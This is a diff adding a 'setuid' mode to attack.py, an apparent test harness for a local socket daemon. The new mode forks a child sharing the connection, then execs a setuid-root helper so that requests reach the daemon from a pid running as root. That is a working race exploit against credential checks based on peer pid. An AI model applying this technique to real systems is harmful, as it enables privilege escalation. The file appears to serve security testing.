@@ -8,6 +8,12 @@ who listens, as an attacker would not).
     attack.py raw REQUEST...      one request to the daemon, print the reply
     attack.py emptyfd N           N connections, each sending an empty
                                   message carrying a descriptor
+    attack.py setuid HELPER REQUEST...
+                                  connect, then exec the setuid-root HELPER
+                                  (blocked on its stdin) while a child that
+                                  shares the connection sends REQUEST once
+                                  the daemon accepts: the pid that connected
+                                  now runs as euid 0 with every capability
     attack.py hold N SECONDS      hold N connections; print how many the
                                   daemon answered (ping), then, after
                                   SECONDS, how many it has closed since
@@ -125,6 +131,21 @@ def emptyfd(n):
     raise SystemExit("the daemon does not answer")
 
 
+def setuid(helper, words):
+    s = connect(timeout=10)
+    r, w = os.pipe()
+    if os.fork() == 0:
+        os.close(r)  # w stays open: the helper blocks reading its stdin
+        time.sleep(1.0)  # the parent has exec'd the helper
+        print("ready", flush=True)
+        s.send(" ".join(words).encode())
+        print(reply(s), flush=True)
+        os._exit(0)
+    os.close(w)
+    os.dup2(r, 0)
+    os.execv(helper, [helper, "nobody"])
+
+
 def hold(n, seconds):
     socks = []
     for _ in range(n):
@@ -166,6 +187,8 @@ def main(argv):
         raw(argv[2:])
     elif cmd == "emptyfd":
         emptyfd(int(argv[2]))
+    elif cmd == "setuid":
+        setuid(argv[2], argv[3:])
     elif cmd == "hold":
         hold(int(argv[2]), float(argv[3]))
     else:
